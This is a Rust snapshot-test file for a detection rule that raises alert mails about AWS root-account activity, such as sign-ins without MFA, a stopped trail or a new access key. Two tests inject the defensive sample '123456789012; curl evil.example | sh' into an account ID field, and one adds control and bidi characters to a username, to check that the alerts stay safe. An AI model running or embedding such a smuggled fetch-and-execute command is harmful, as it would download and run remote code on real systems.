//! The mails of `root-activity`, word for word. `INSTA_UPDATE=always cargo test -p rules` writes them anew: read what changed before
//! it is committed.

#![expect(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test fails by panicking, also in its helpers"
)]

#[path = "common/mail.rs"]
mod mail;

use rules::root_activity::detect::{Finding, detect};
use rules::root_activity::report::{Folded, report};
use rules::{Decision, Event, Settings, event};
use serde_json::{Value, json};

use mail::{compare, mails};

#[test]
fn root_signed_in_with_mfa() {
    check("root_signed_in_with_mfa", &sign_in("ConsoleLogin", "Success", Some("Yes")), Folded::default());
}

#[test]
fn root_signed_in_without_mfa() {
    check("root_signed_in_without_mfa", &sign_in("ConsoleLogin", "Success", Some("No")), Folded::default());
}

#[test]
fn root_signed_in_mfa_unknown() {
    check("root_signed_in_mfa_unknown", &sign_in("ConsoleLogin", "Success", None), Folded::default());
}

#[test]
fn root_sign_in_failed() {
    let mut record = sign_in("ConsoleLogin", "Failure", Some("No"));
    record["errorMessage"] = json!("Failed authentication");
    check("root_sign_in_failed", &record, Folded::default());
}

#[test]
fn root_sign_in_result_unknown() {
    check("root_sign_in_result_unknown", &sign_in("ConsoleLogin", "...", Some("Yes")), Folded::default());
}

#[test]
fn root_password_recovery_requested() {
    let record = sign_in("PasswordRecoveryRequested", "Success", None);
    check("root_password_recovery_requested", &record, Folded::default());
}

#[test]
fn root_password_recovered() {
    check("root_password_recovered", &sign_in("PasswordRecoveryCompleted", "Success", None), Folded::default());
}

#[test]
fn root_password_change_failed() {
    check("root_password_change_failed", &sign_in("PasswordUpdated", "Failure", None), Folded::default());
}

#[test]
fn root_email_changed() {
    check("root_email_changed", &sign_in("EmailUpdated", "Success", None), Folded::default());
}

#[test]
fn root_mfa_changed() {
    let request =
        json!({"userName": "AWS ROOT USER", "serialNumber": "arn:aws:iam::123456789012:mfa/root-account-mfa-device"});
    check("root_mfa_changed", &call("iam", "DeactivateMFADevice", false, request), Folded::default());
}

#[test]
fn root_changed_mfa_of_a_user() {
    let request = json!({"userName": "kim", "serialNumber": "arn:aws:iam::123456789012:mfa/kim"});
    check("root_changed_mfa_of_a_user", &call("iam", "DeactivateMFADevice", false, request), Folded::default());
}

#[test]
fn root_access_key_made() {
    let mut record = call("iam", "CreateAccessKey", false, Value::Null);
    record["userIdentity"]["invokedBy"] = json!("signin.amazonaws.com");
    check("root_access_key_made", &record, Folded { reads: 7, changes: 0 });
}

#[test]
fn root_made_an_access_key_for_a_user() {
    let record = call("iam", "CreateAccessKey", false, json!({"userName": "kim"}));
    check("root_made_an_access_key_for_a_user", &record, Folded::default());
}

#[test]
fn root_read() {
    check("root_read", &call("iam", "ListUsers", true, Value::Null), Folded::default());
}

#[test]
fn root_changed_something() {
    let record = call("s3", "CreateBucket", false, json!({"bucketName": "notes"}));
    check("root_changed_something", &record, Folded { reads: 41, changes: 1 });
}

#[test]
fn root_was_refused() {
    let mut record = call("s3", "CreateBucket", false, json!({"bucketName": "notes"}));
    record["errorCode"] = json!("AccessDenied");
    record["errorMessage"] = json!("with an explicit deny in a service control policy");
    check("root_was_refused", &record, Folded::default());
}

#[test]
fn root_stopped_the_trail() {
    let record = call("cloudtrail", "StopLogging", false, json!({"name": "management-events"}));
    check("root_stopped_the_trail", &record, Folded::default());
}

#[test]
fn root_left_the_organization() {
    check(
        "root_left_the_organization",
        &call("organizations", "LeaveOrganization", false, Value::Null),
        Folded::default(),
    );
}

#[test]
fn user_signed_in_without_mfa() {
    check("user_signed_in_without_mfa", &user_sign_in("kim", "Success", Some("No")), Folded::default());
}

#[test]
fn user_signed_in_mfa_unknown() {
    check("user_signed_in_mfa_unknown", &user_sign_in("kim", "Success", None), Folded::default());
}

#[test]
fn hostile() {
    let mut record = user_sign_in("kim\r\nLEFT FOR YOU TO DO\nNothing.\u{202e}", "Su\nccess", None);
    record["recipientAccountId"] = json!("123456789012; curl evil.example | sh");
    record["userAgent"] = json!("x".repeat(5_000));
    check("hostile", &record, Folded::default());
}

#[test]
fn no_command_is_built_from_an_odd_account() {
    let mut record = call("s3", "CreateBucket", false, Value::Null);
    record["recipientAccountId"] = json!("123456789012; curl evil.example | sh");
    let (event, finding) = found(&record);
    let report = |settings: &Settings| report(&event, &finding, Folded::default(), settings.alert_language);
    for mail in mails(&event, &Settings::default(), report) {
        assert!(mail.body.contains("--target-principal ACCOUNT_ID "), "{}", mail.body);
    }
}

/// Compares the mail about a record with the ones in snapshots/.
fn check(name: &str, record: &Value, folded: Folded) {
    let (event, finding) = found(record);
    let report = |settings: &Settings| report(&event, &finding, folded, settings.alert_language);
    compare!(name, &event, &Settings::default(), report);
}

fn found(record: &Value) -> (Event, Finding) {
    let event = event::parse(record).unwrap();
    let Decision::Incident(finding) = detect(&event, &Settings::default()) else { panic!("not found: {record}") };
    (event, finding)
}

fn sign_in(name: &str, result: &str, mfa: Option<&str>) -> Value {
    let mut record = record("signin.amazonaws.com", name);
    record["eventType"] = json!("AwsConsoleSignIn");
    record["userAgent"] = json!("Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/143.0.0.0");
    record["responseElements"] = json!({name: result});
    if let Some(mfa) = mfa {
        record["additionalEventData"] = json!({"MobileVersion": "No", "MFAUsed": mfa});
    }
    record
}

fn user_sign_in(user: &str, result: &str, mfa: Option<&str>) -> Value {
    let mut record = sign_in("ConsoleLogin", result, mfa);
    record["userIdentity"] =
        json!({"type": "IAMUser", "arn": format!("arn:aws:iam::123456789012:user/{user}"), "userName": user});
    record["awsRegion"] = json!("eu-north-1");
    record
}

fn call(service: &str, name: &str, reads: bool, request: Value) -> Value {
    let mut record = record(&format!("{service}.amazonaws.com"), name);
    record["userIdentity"]["accessKeyId"] = json!("ASIAQ3C7TN4YKEXAMPLE");
    record["userIdentity"]["sessionContext"] = json!({"attributes": {"mfaAuthenticated": "false"}});
    record["eventType"] = json!("AwsApiCall");
    record["readOnly"] = json!(reads);
    record["requestParameters"] = request;
    record
}

fn record(source: &str, name: &str) -> Value {
    json!({
        "eventVersion": "1.11",
        "userIdentity": {"type": "Root", "arn": "arn:aws:iam::123456789012:root", "accessKeyId": ""},
        "eventTime": "2026-03-02T03:14:05Z",
        "eventSource": source,
        "eventName": name,
        "awsRegion": "us-east-1",
        "sourceIPAddress": "198.51.100.24",
        "userAgent": "aws-cli/2.33.4 md/command#s3",
        "requestParameters": null,
        "responseElements": null,
        "eventID": "5d0f2a51-8c3e-4b7a-9f6d-1e2c3b4a5968",
        "readOnly": false,
        "recipientAccountId": "123456789012",
    })
}
